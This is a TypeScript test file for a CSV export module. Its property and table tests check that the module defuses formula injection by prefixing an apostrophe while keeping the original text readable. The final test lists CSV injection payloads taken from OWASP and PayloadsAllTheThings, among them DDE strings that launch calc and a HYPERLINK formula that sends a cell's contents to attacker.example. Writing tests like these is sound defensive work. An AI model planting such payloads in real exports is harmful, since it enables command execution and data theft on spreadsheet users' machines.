import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import papaparse from 'papaparse'
import { describe, expect, test } from 'vitest'
import { byteOrderMark, csvRow, originalText } from '#domain/text/csv.ts'
import { anyCharacters } from '#test/support/any-characters.ts'

const fileOf = (rows: readonly string[][]) => Buffer.from(byteOrderMark + rows.map(csvRow).join(''))

const readers: [name: string, read: (file: Buffer) => string[][]][] = [
  ['csv-parse', (file) => parse(file, { bom: true, record_delimiter: '\r\n' })],
  [
    'papaparse',
    (file) => {
      const text = new TextDecoder().decode(file).replace(/\r\n$/, '')
      return papaparse.parse<string[]>(text, { delimiter: ',', newline: '\r\n' }).data
    },
  ],
]

const special = fc.constantFrom(
  ...['"', '""', "'", "''", ',', ';', '\r', '\n', '\r\n', '\t', ' ', '\u0000', '\ufeff', '\u200b', '\u00a0'],
  ...[...'=+-@＝＋－＠|é', '\ud800', '\udc00', '😀', 'e\u0301', '\u2028', '-5', 'A1'],
)
const anyText = fc.oneof(
  anyCharacters(),
  fc.string({ unit: special, maxLength: 8 }),
  fc.string({ unit: fc.nat(0xffff).map((unit) => String.fromCharCode(unit)) }),
)
const anyRows = fc
  .integer({ min: 2, max: 6 })
  .chain((width) =>
    fc.array(fc.array(anyText, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 6 }),
  )

/** As a spreadsheet that separates by semicolons, bars or tabs takes a line apart, whatever quotes are in it. */
const splitElsewhere = (file: Buffer) =>
  file
    .toString()
    .slice(1)
    .split(/[;|\t\r\n]/)

test('[DIS-1] A spreadsheet that separates by other characters than commas finds no formula', () => {
  fc.assert(
    fc.property(anyRows, (rows) => {
      for (const cell of splitElsewhere(fileOf(rows)))
        expect(cell.replace(/^[\s\p{Z}\p{C}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
    }),
    { numRuns: 500 },
  )
})

describe.each(readers)('The reader %s', (_, read) => {
  test('[ADM-4] The reader gets every text back, except for the apostrophe before a formula', () => {
    fc.assert(
      fc.property(anyRows, (rows) => {
        const cells = read(fileOf(rows)).map((row) => row.map(originalText))
        /** Half a surrogate pair is no Unicode, and no UTF-8 can hold it. */
        expect(cells).toEqual(rows.map((row) => row.map((text) => text.toWellFormed())))
      }),
      { numRuns: 500 },
    )
  })

  test('[ADM-4] The reader finds no formula, whatever was typed', () => {
    fc.assert(
      fc.property(anyRows, (rows) => {
        for (const cell of read(fileOf(rows)).flat()) {
          expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r\n]/)
          expect(cell.replace(/^[\p{Z}\p{C}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠]/)
        }
      }),
      { numRuns: 500 },
    )
  })
})

test.each<[text: string, cell: string]>([
  ['Acme Life', 'Acme Life'],
  ['', ''],
  ['Jones, Mary', '"Jones, Mary"'],
  ['5 ft 8 "or so"', '"5 ft 8 ""or so"""'],
  ['two\nlines', '"two\nlines"'],
  ['two\rlines', '"two\rlines"'],
  ['a\tb', '"a\tb"'],
  [' padded ', '" padded "'],
  ['1-2 times; or more', '1-2 times; or more'],
  ['(555) 123-4567', '(555) 123-4567'],
  ['$250,000', '"$250,000"'],
  ['Smith, a=b', '"Smith, a=b"'],
  ['é=1', 'é=1'],
  ['/-', '/-'],
  ['-5', "'-5"],
  ['-', "'-"],
  ['+1 555 123 4567', "'+1 555 123 4567"],
  ["'quoted'", "'quoted'"],
  ["'=1", "''=1"],
  ['Aspirin; Insulin', 'Aspirin; Insulin'],
  ['Smith, - no; 5-10 mg', '"Smith, - no; 5-10 mg"'],
  ['a;=1+1', "a;'=1+1"],
  ['a; @SUM(1)', "a;' @SUM(1)"],
  ["a|';+1", "a|';'+1"],
  ['pills\n- one', '"pills\n\'- one"'],
])('[ADM-4] The file holds %j as %j', (text, cell) => expect(csvRow([text, 'x'])).toBe(`${cell},x\r\n`))

test.each(['=1+1', 'plain', "'quoted'", ''])('The original of %j is the same text', (cell) => {
  expect(originalText(cell)).toBe(cell)
})

test('[ADM-4] A file begins with the three bytes that mark UTF-8 for spreadsheets', () => {
  expect([...fileOf([])]).toEqual([0xef, 0xbb, 0xbf])
})

const hidden = ['\r\n', ...'\t\r\n \u00a0\ufeff\u200b\u3164\u202e\u0000\u0085\ue000\ufffd', '\u2060\u00ad']

/** OWASP's CSV Injection page, PayloadsAllTheThings, and ways to hide the first character. */
test.each([
  '=1+1',
  '=1+2";=1+2',
  '=1+2\'" ;,=1+2',
  "=cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  '=HYPERLINK("https://attacker.example/?x="&A1,"Click")',
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ...hidden.map((characters) => `${characters}=1+1`),
  '\tplain',
  '\u3000＝1+1',
  '"=1+1',
  '"" =1+1',
  "' =1+1",
  '“=1+1',
])('[ADM-4] The file keeps %j, but not as a formula', (payload) => {
  const row = csvRow([payload, payload])
  for (const [, read] of readers) {
    const [cells = []] = read(Buffer.from(byteOrderMark + row))
    expect(cells.map((cell) => cell.startsWith("'"))).toEqual([true, true])
    expect(cells.map(originalText)).toEqual([payload, payload])
  }
})
